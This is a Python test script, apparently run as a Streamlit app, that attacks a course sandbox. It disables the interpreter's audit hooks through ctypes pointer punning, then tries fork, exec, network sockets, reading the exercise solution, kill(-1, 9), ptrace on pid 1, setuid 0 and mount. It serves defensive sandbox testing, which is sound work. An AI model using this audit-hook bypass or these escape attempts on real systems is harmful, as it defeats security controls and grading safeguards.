"""Attack: switch the audit-hook guard off with ctypes memory tricks that raise no audit event
(a ctypes Union that puns an int into a pointer: no ``from_address``, no ``addressof``, no
``cast``, no native call), then try what the guard would have refused.

The interpreter's list of Python audit hooks is found from the ``PyInterpreterState`` (located
by its ``modules``/``sysdict``/``builtins`` pointers in libpython's data segment) and its
length is set to 0. Then: fork, exec, spawn, network, SysV IPC, signals, reading the course
folder, walking the heap.

Must happen: the guard notices the memory tricks (``forbidden``); and whatever happens to the
guard, the kernel layers (namespaces, private root, seccomp, Landlock, uid) refuse every
escape. The page lists what worked (``ESCAPED: ...``) so the test can tell.
"""
import builtins
import ctypes
import errno
import json
import os
import socket
import struct
import sys
import types

import streamlit as st


class _U(ctypes.Union):
    _fields_ = [("n", ctypes.c_size_t), ("p", ctypes.POINTER(ctypes.c_ssize_t)),
                ("o", ctypes.py_object), ("b", ctypes.POINTER(ctypes.c_char * 4096))]


_u = _U()


def word(addr):
    _u.n = addr
    return _u.p[0]


def page(addr):
    _u.n = addr
    return bytes(_u.b.contents)


def find_interp():
    start = id(type(None)) & ~0xFFF
    want = struct.pack("<Q", id(sys.modules))
    for off in range(0, 4 << 20, 4096):
        blob = page(start + off)
        i = blob.find(want)
        while i != -1:
            at = start + off + i
            if i % 8 == 0 and word(at + 16) == id(sys.__dict__) and \
                    word(at + 24) == id(builtins.__dict__):
                return at
            i = blob.find(want, i + 1)
    return None


def switch_guard_off():
    if getattr(sys, "_guard_is_off", False):  # a rerun: the hooks are gone already
        return "off"
    modules_at = find_interp()
    if modules_at is None:
        return "interpreter state not found"
    at = modules_at
    while word(at) != id(builtins.__import__):
        at += 8
        if at - modules_at > 1 << 16:
            return "import_func not found"
    lo, hi = id(sys.modules) - (1 << 36), id(sys.modules) + (1 << 36)
    for a in range(at + 8, at + 8 + 8 * 600, 8):
        w = word(a)
        if not (lo < w < hi) or w % 8 or word(w + 8) != id(list):
            continue
        size = word(w + 16)
        if not 1 <= size <= 8:
            continue
        items = word(w + 24)
        if all(word(word(items + 8 * k) + 8) == id(types.FunctionType) for k in range(size)):
            _u.n = word(items)
            hook = _u.o
            if "guard" in hook.__code__.co_filename:
                _u.n = w + 16
                _u.p[0] = 0  # no audit hooks any more
                sys._guard_is_off = True
                return "off"
    return "hook list not found"


results = {"guard": switch_guard_off()}


def attempt(name, action):
    try:
        value = action()
        results[name] = "ESCAPED: " + repr(value)[:120]
    except BaseException as exc:  # noqa: BLE001 - we want every refusal
        results[name] = f"refused ({type(exc).__name__}: {str(exc)[:80]})"


libc = None
try:
    libc = ctypes.CDLL(None, use_errno=True)
    libc.syscall.restype = ctypes.c_long
    results["ctypes call"] = "ESCAPED: native calls work (guard off)"
except BaseException as exc:  # noqa: BLE001
    results["ctypes call"] = f"refused ({type(exc).__name__})"


def syscall(nr, *args):
    result = libc.syscall(ctypes.c_long(nr), *[ctypes.c_long(a) for a in args])
    if result < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return result


def fork():
    pid = os.fork()
    if pid == 0:
        os._exit(0)
    return pid


attempt("fork", fork)
attempt("exec", lambda: os.execv("/bin/true", ["true"]))
attempt("posix_spawn", lambda: os.posix_spawn("/bin/true", ["true"], {}))
attempt("inet socket", lambda: socket.socket(socket.AF_INET, socket.SOCK_STREAM))
attempt("netlink socket", lambda: socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0))
attempt("read the course", lambda: os.listdir("/work/main/exercises"))
attempt("read the solution", lambda: open("/work/main/exercises/cache-data-load/solution.py").read())
attempt("list /", lambda: [n for n in os.listdir("/") if n not in ("speedlit-app", "tmp", "dev")])
attempt("write the venv", lambda: open(os.path.join(sys.prefix, "owned.txt"), "w"))
attempt("kill everyone", lambda: os.kill(-1, 9))
attempt("proc", lambda: os.listdir("/proc"))
if libc is not None:
    attempt("msgget", lambda: syscall(68, 0, 0o1666 | 0o1000))      # IPC_PRIVATE | IPC_CREAT
    attempt("shmget", lambda: syscall(29, 0, 4096, 0o1666 | 0o1000))
    attempt("unshare", lambda: syscall(272, 0x10000000))
    attempt("ptrace", lambda: syscall(101, 16, 1, 0, 0))             # PTRACE_ATTACH pid 1
    attempt("clone", lambda: syscall(56, 17, 0, 0, 0, 0))            # SIGCHLD: a process
    attempt("setuid 0", lambda: syscall(105, 0))
    attempt("mount", lambda: syscall(165, 0, 0, 0, 0, 0))
try:
    import gc
    objects = gc.get_objects()
    results["heap walk"] = f"ESCAPED: {len(objects)} objects (guard off)"
except BaseException as exc:  # noqa: BLE001
    results["heap walk"] = f"refused ({type(exc).__name__})"

print("GUARD-OFF " + json.dumps(results), flush=True)
st.json(results)
